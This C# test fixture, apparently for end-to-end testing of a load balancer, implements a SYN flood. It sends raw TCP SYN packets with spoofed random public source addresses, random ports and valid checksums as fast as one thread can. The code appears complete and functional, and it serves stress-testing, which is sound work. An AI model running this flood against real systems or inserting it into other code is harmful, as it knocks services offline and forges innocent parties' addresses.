using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace Ilb.EndToEnd.Fixtures;

/// <summary>TCP packets that open connections from addresses that nobody has, as fast as one thread sends them.</summary>
internal static class SynFlood
{
    private const int IpHeader = 20, TcpHeader = 20;
    private const byte Tcp = 6, Syn = 2, DataOffset = TcpHeader / 4 << 4;

    /// <summary>Sends so many, each from another random address and port.</summary>
    public static void Send(MachinePlace from, IPEndPoint target, int count)
    {
        using var socket = from.Raw();
        socket.SendBufferSize = 1 << 22;
        var random = new Random(count);
        var to = target.Serialize();
        var packet = Packet(target);
        for (var i = 0; i < count; i++)
            socket.SendTo(Another(packet, random), SocketFlags.None, to);
    }

    /// <summary>The kernel fills in lengths and checksum of the IP header.</summary>
    private static byte[] Packet(IPEndPoint target)
    {
        var packet = new byte[IpHeader + TcpHeader];
        (packet[0], packet[8], packet[9]) = (0x45, 64, Tcp);
        target.Address.GetAddressBytes().CopyTo(packet, 16);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader + 2), (ushort)target.Port);
        (packet[IpHeader + 12], packet[IpHeader + 13], packet[IpHeader + 14]) = (DataOffset, Syn, 0xff);
        return packet;
    }

    /// <summary>From 11.0.0.0 to 99.255.255.255: addresses of the internet.</summary>
    private static byte[] Another(byte[] packet, Random random)
    {
        packet[12] = (byte)random.Next(11, 100);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(13), (ushort)random.Next());
        packet[15] = (byte)random.Next();
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader), (ushort)random.Next(1024, 65536));
        BinaryPrimitives.WriteUInt32BigEndian(packet.AsSpan(IpHeader + 4), (uint)random.Next());
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader + 16), 0);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader + 16), Checksum(packet));
        return packet;
    }

    /// <summary>RFC 9293, 3.1: over both addresses, the protocol, the length, and the segment.</summary>
    private static ushort Checksum(ReadOnlySpan<byte> packet)
    {
        uint sum = Tcp + TcpHeader;
        for (var at = 12; at < packet.Length; at += 2)
            sum += BinaryPrimitives.ReadUInt16BigEndian(packet[at..]);
        sum = (sum & 0xffff) + (sum >> 16);
        return (ushort)~((sum & 0xffff) + (sum >> 16));
    }
}
